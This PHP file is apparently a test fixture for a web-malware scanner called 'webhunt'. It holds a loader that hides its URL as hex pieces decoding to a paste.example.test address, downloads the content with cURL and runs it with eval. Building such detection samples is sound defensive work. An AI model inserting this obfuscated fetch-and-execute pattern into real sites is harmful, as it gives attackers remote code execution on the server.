<?php
// Inert test sample for webhunt: a loader whose address is kept as hex pieces, fetched by a small
// cURL helper and run as a whole script (eval of a closing tag joined to it). The host is a test name.
function _g($u) {
    $h = curl_init();
    curl_setopt($h, CURLOPT_URL, $u);
    curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);
    $r = curl_exec($h);
    curl_close($h);
    return $r;
}
$p = array('68747470733a2f2f', '7061737465', '2e6578616d706c652e746573742f7261772f6158397a');
$u = '';
foreach ($p as $x) { $u .= hex2bin($x); }
eval('?>' . _g($u));
